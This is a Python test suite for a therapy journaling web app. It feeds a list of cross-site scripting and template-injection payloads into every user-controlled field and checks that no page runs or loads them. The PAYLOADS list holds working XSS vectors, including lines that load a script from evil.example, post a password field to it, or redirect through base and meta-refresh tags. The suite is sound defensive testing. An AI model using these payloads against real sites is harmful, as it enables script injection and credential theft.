"""Somebody types scripts into every field that there is: on every page they stay words.

Red when a template marks something safe or leaves an attribute unquoted, `markdown.py` lets a
scheme or raw HTML through (its `html`, `url_schemes` and `tags`), or a template renders words.
"""

import pytest
from werkzeug.test import TestResponse

from tests.people import PASSWORD
from tests.town import Town, invite, write
from tests.visitors import Page, Visitor, read

PAYLOADS = [
    "<script>pwn()</script>",
    "</title><script src=//evil.example/pwn.js></script>",
    "<img src=x onerror=pwn()>",
    "<svg/onload=pwn()><svg><script>pwn()</script></svg>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<pwn onpwn=pwn() style=x>",
    '"><pwn onfocus=pwn() autofocus>',
    "'><pwn onfocus=pwn() autofocus>",
    '" onfocus="pwn()" autofocus="',
    "' onfocus='pwn()' autofocus='",
    "x onfocus=pwn() autofocus=",
    "</textarea><script>pwn()</script>",
    "</details></form><form action=//evil.example><input name=password>",
    "[pwn](javascript:pwn())",
    "[pwn](JaVaScRiPt&colon;pwn())",
    "[pwn](java\tscript:pwn()) [pwn](&#106;avascript:pwn())",
    "[pwn](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "[pwn](vbscript:pwn) ![pwn](//evil.example/pwn.png) ![p][q]\n\n[q]: //evil.example/p.png",
    '[pwn](https://evil.example "x\\" onmouseover=pwn() ")',
    "<javascript:pwn()> <https://evil.example/\"onclick='pwn()>",
    "[pwn]: javascript:pwn()\n\n[pwn] [pwn][pwn]",
    '```"><script>pwn()</script>\nx\n``` `<script>pwn()</script>`',
    "<!--[if IE]><script>pwn()</script><![endif]--> <![CDATA[<script>pwn()</script>]]>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{1337*7331}} {%print(1337*7331)%} ${1337*7331} #{1337*7331} %(name)s %s {0}",
    "\u202e<script>nwp\u202c\u2066)(pwn<\u2069",
    "\x00<scr\x00ipt>pwn()</scr\x00ipt>\x08\x1b[2J",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e \u2028pwn()\u2029",
    "&lt;script&gt;pwn()&lt;/script&gt; &#60;script&#62;",
]
ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "poster", "content", "srcset")
NEVER = {"iframe", "object", "embed", "base", "img", "link:import", "math", "style", "template"}


def harm(answer: TestResponse) -> list[str]:
    """Return what a browser would run, load or send elsewhere."""
    page, found = read(answer), []
    for tag, attributes in page.tags:
        found += [f"<{tag}>"] * (tag in NEVER or "pwn" in tag)
        for name, value in attributes.items():
            bare = "".join(letter for letter in value if ord(letter) > 32).casefold()
            if (
                name.startswith("on")
                or name in ("style", "srcdoc", "autofocus")
                or "pwn" in name
                or (name in ADDRESSES and bare.startswith(("javascript:", "data:", "vbscript:")))
                or (name in ADDRESSES and tag != "a" and bare.startswith(("//", "http")))
            ):
                found.append(f"{name}={value}")
        if tag == "script" and not attributes.get("src", "").startswith("/assets/"):
            found.append("an inline script")
        if tag == "meta" and "http-equiv" in attributes:
            found.append("a meta refresh")
    if "9801547" in page.text:
        found.append("a template that counted")
    assert "\x00" not in answer.text
    return found


def visit(visitor: Visitor, *paths: str) -> list[Page]:
    """Open pages that must be whole and harmless."""
    pages = []
    for path in paths:
        answer = visitor.get(path)
        assert answer.status_code == 200, path
        assert harm(answer) == [], path
        pages.append(read(answer))
    return pages


def says(page: Page, payload: str) -> bool:
    """Tell whether the words are there as words, whatever a browser makes of spaces."""
    wanted = "".join(letter for letter in payload.strip() if ord(letter) > 32)
    return wanted in "".join(letter for letter in page.text if ord(letter) > 32)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_a_patient_types_runs_nowhere(town: Town, payload: str) -> None:
    ana, tess, grant = town.ana, town.tess, town["grant"]
    assert ana.post("/account", name=payload, zone="Europe/Vienna", idle_minutes=15).location
    ana.arrive("/check-ins/new", mood=3, note=payload, tags=payload[:40])
    entry = write(ana, payload, payload, "journal", tags=payload[:40])
    draft = town["draft"]
    assert (
        ana.post(f"/drafts/{draft}", title=payload, body=payload, tags=payload[:40]).status_code
        == 200
    )
    _, _, shown, *_ = visit(
        ana, "/today", "/entries", f"/entries/{entry}", "/account", "/check-ins"
    )
    assert says(shown, payload)  # the title at least is shown as it was typed
    visit(ana, f"/entries/{entry}/edit", f"/entries/new?draft={draft}", "/trends", "/sharing/log")
    visit(ana, f"/sharing/{grant}", "/sharing", "/sharing/receipts", "/account/devices")
    visit(tess, "/caseload", f"/patients/{grant}", f"/patients/{grant}/check-ins")
    [read_by_her] = visit(tess, f"/patients/{grant}/records/{entry}")
    assert says(read_by_her, payload)
    visit(ana, f"/entries/{entry}", "/sharing/log")
    stale = ana.post(f"/entries/{entry}/edit", title=payload, body=payload, version=99)
    assert (stale.status_code, harm(stale)) == (409, [])


@pytest.mark.parametrize("payload", PAYLOADS[::2], ids=range(0, len(PAYLOADS), 2))
def test_names_and_labels_run_on_nobodys_page(town: Town, payload: str) -> None:
    who = {"name": payload, "password": PASSWORD, "since": "now"}
    patient, link = town.stranger, invite(town.tess, payload[:80])
    visit(town.tess, "/caseload", "/caseload/invitations/new")
    address = f"a{''.join(payload.split()).replace('@', '')}@example.org"
    answer = patient.post(link, email=address, scopes=["journal"], **who)
    assert answer.status_code == 303
    visit(patient, "/today", "/account", "/account/recovery-kit", "/account/password", "/sharing")
    [caseload] = visit(town.tess, "/caseload")
    assert says(caseload, payload)


def test_a_therapists_name_runs_on_no_patients_page(town: Town) -> None:
    for at, payload in enumerate(PAYLOADS[6:12]):
        run = town.app.test_cli_runner().invoke(args=["invite-therapist", f"{at}@example.org"])
        link = run.stdout.splitlines()[-1].removeprefix("http://127.0.0.1:8000")
        therapist = town.stranger
        therapist.arrive(link, name=payload, password=PASSWORD)
        further = invite(therapist, "x")
        visit(town.ana, further)
        visit(town.stranger, further)
        assert town.ana.arrive(further, password=PASSWORD, scopes=["journal"])
    pages = visit(
        town.ana, "/sharing", f"/entries/{town['journal']}", f"/entries/{town['private']}"
    )
    assert all(says(pages[0], payload) for payload in PAYLOADS[6:12])
    for path in pages[0].links:
        if path.startswith("/sharing/"):
            assert harm(town.ana.get(path)) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_stands_in_an_address_or_a_refused_form_runs_nowhere(town: Town, payload: str) -> None:
    query = dict.fromkeys(("q", "tag", "from", "to", "before", "next", "days", "page"), payload)
    for visitor, path in (
        (town.ana, "/entries"),
        (town.ana, "/check-ins"),
        (town.ana, "/trends"),
        (town.ana, "/sharing/log"),
        (town.tess, "/caseload"),
        (town.stranger, "/sign-in"),
        (town.stranger, "/today"),
    ):
        answer = visitor.get(path, query_string=query)
        assert answer.status_code in (200, 303, 404), path
        assert harm(answer) == [], path
    typed = dict.fromkeys(("name", "email", "next", "kit", "kept", "zone", "client_id"), payload)
    more = dict.fromkeys(("title", "note", "tags", "occurred_at", "mood", "audience"), payload)
    for visitor, path in (
        (town.stranger, "/sign-in"),
        (town.stranger, "/recovery"),
        (town.stranger, town["link"]),
        (town.ana, "/account"),
        (town.ana, "/check-ins/new"),
        (town.ana, "/entries/new"),
        (town.ana, f"/entries/{town['private']}/edit"),
        (town.tess, "/caseload/invitations/new"),
    ):
        answer = visitor.post(path, version=payload, body="", label=payload * 9, **typed, **more)
        assert answer.status_code == 422, path
        assert harm(answer) == [], path
    late = town.stranger.post("/entries/new", body=payload + " and more words", title=payload)
    assert (late.status_code, harm(late)) == (401, [])
